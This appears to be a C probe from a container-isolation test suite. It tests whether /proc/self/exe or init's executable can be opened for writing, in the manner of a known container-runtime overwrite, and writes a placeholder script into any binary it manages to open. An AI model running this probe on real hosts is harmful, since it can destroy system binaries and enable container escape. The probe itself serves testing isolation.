/* ISO-08: get a writable descriptor of the running program or of init through /proc, the way a
 * container runtime was once overwritten: probe_exe [ROUNDS]. */

#include "finding.h"

static int opened;

static void try_open(const char *name, const char *path, int flags, bool tell)
{
    int fd = open(path, flags | O_CLOEXEC);
    if (tell)
        say_result(name, fd);
    if (fd < 0)
        return;
    opened++;
    (void)!write(fd, "#!/bin/sh\ntouch /tmp/owned\n", 27);
    (void)close(fd);
}

static void through_descriptor(const char *name, const char *path, bool tell)
{
    char link[64];
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        if (tell)
            say(name, "path %s", errno_name(errno));
        return;
    }
    (void)snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    try_open(name, link, O_WRONLY, tell);
    try_open(name, link, O_RDWR, tell);
    (void)close(fd);
}

static void around(bool tell)
{
    try_open("self.wronly", "/proc/self/exe", O_WRONLY, tell);
    try_open("self.rdwr", "/proc/self/exe", O_RDWR, tell);
    try_open("self.trunc", "/proc/self/exe", O_WRONLY | O_TRUNC, tell);
    try_open("init.wronly", "/proc/1/exe", O_WRONLY, tell);
    try_open("init.rdwr", "/proc/1/exe", O_RDWR, tell);
    try_open("parent.wronly", "/proc/self/task/../../1/exe", O_WRONLY, tell);
    through_descriptor("self.fd", "/proc/self/exe", tell);
    through_descriptor("init.fd", "/proc/1/exe", tell);
}

int main(int argc, char **argv)
{
    char target[512] = "";
    ssize_t n = readlink("/proc/1/exe", target, sizeof target - 1);
    say("init.link", "%s", n < 0 ? errno_name(errno) : target);
    around(true);
    for (long i = number(argc > 1 ? argv[1] : NULL, 100); i > 0; i--)
        around(false);
    say("opened", "%d", opened);
    int fd = open("/proc/self/exe", O_RDONLY);
    say_result("control.read_self", fd);
    say("done", "1");
    return 0;
}
